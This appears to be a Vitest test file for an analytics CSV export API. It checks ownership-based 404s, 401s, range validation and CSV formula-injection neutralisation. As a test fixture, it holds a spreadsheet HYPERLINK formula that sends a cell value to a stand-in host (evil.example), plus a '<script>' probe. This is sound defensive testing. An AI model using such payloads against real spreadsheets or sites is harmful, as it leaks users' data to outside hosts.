/**
 * Issue #13: GET /api/accounts/[accountId]/analytics/export — the owner's CSV (RFC 4180, formula
 * injection neutralised, attachment with a fixed-pattern name, no-store); another user's id is
 * the same 404 as a missing one; signed out is 401; a range outside 7/30/90 is 400.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as exportRoute } from "@/app/api/accounts/[accountId]/analytics/export/route";
import { getTokenCipher } from "@/lib/crypto/app-cipher";
import { recordSnapshot } from "@/lib/analytics/snapshot-store";
import { APP_URL, startAppHarness, TestBrowser, type AppHarness } from "../helpers/app-harness";
import { seedConnectedAccounts } from "../helpers/seed-accounts";
import { reading, videoStat } from "../helpers/analytics-kit";

const HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click me")';

describe("analytics CSV export", () => {
  let h: AppHarness;
  let alice: { browser: TestBrowser; accountId: string };
  let bob: { browser: TestBrowser };
  beforeAll(async () => {
    h = await startAppHarness();
    const a = await h.signUp("alice");
    const b = await h.signUp("bob");
    const { accounts } = await seedConnectedAccounts({ db: h.db, cipher: getTokenCipher(), sandbox: h.sandbox, count: 1, now: new Date(), userId: a.id });
    alice = { browser: new TestBrowser(a.cookie), accountId: accounts[0]!.id };
    bob = { browser: new TestBrowser(b.cookie) };
    const now = Date.now();
    await recordSnapshot(h.db, alice.accountId, new Date(now - 2 * 86_400_000), reading(100, [videoStat("v1", 1000, { title: HOSTILE_TITLE })]));
    await recordSnapshot(h.db, alice.accountId, new Date(now - 86_400_000), reading(130, [videoStat("v1", 1500, { title: HOSTILE_TITLE }), videoStat("v2", 10, { title: "Plain, with a comma" })]));
  }, 120_000);
  afterAll(async () => {
    await h?.close();
  });

  const download = (browser: TestBrowser | undefined, accountId: string, range = "7") => {
    const url = `${APP_URL}/api/accounts/${accountId}/analytics/export?range=${range}`;
    return exportRoute(browser ? browser.request(url) : new Request(url), { params: Promise.resolve({ accountId }) });
  };

  it("the owner downloads an RFC 4180 CSV as an attachment with a fixed-pattern name, not cached", async () => {
    const response = await download(alice.browser, alice.accountId);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="socialflow-tiktok-analytics-7d-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get("cache-control")).toBe("no-store, no-transform");
    const text = await response.text();
    const lines = text.split("\r\n");
    expect(lines.at(-1)).toBe("");
    expect(lines[0]).toMatch(/^section,at,followers,/);
    const snapshots = lines.filter((l) => l.startsWith("snapshot,"));
    expect(snapshots).toHaveLength(2);
    expect(snapshots[1]).toMatch(/^snapshot,[^,]+,130,/);
    expect(lines.filter((l) => l.startsWith("top_video,"))).toHaveLength(2);
    expect(text).toContain('"Plain, with a comma"');
  });

  it("a video title that is a formula is written as text (leading '), never as a formula", async () => {
    const text = await (await download(alice.browser, alice.accountId)).text();
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click me"")"`);
    // No cell starts with a formula character.
    for (const line of text.split("\r\n")) expect(line).not.toMatch(/(^|,)"?[=+@]/);
  });

  it("another user's account id answers exactly like a missing one (404), with none of the owner's data", async () => {
    const theirs = await download(bob.browser, alice.accountId);
    const missing = await download(bob.browser, "00000000-0000-4000-8000-000000000000");
    expect(theirs.status).toBe(404);
    expect(missing.status).toBe(404);
    const [a, b] = [await theirs.json(), await missing.json()];
    expect(a).toEqual(b);
    expect(JSON.stringify(a)).not.toContain("HYPERLINK");
  });

  it("signed out: 401; a range other than 7, 30 or 90: 400 without echoing it", async () => {
    expect((await download(undefined, alice.accountId)).status).toBe(401);
    const bad = await download(alice.browser, alice.accountId, "365<script>");
    expect(bad.status).toBe(400);
    expect(await bad.text()).not.toContain("script");
  });
});
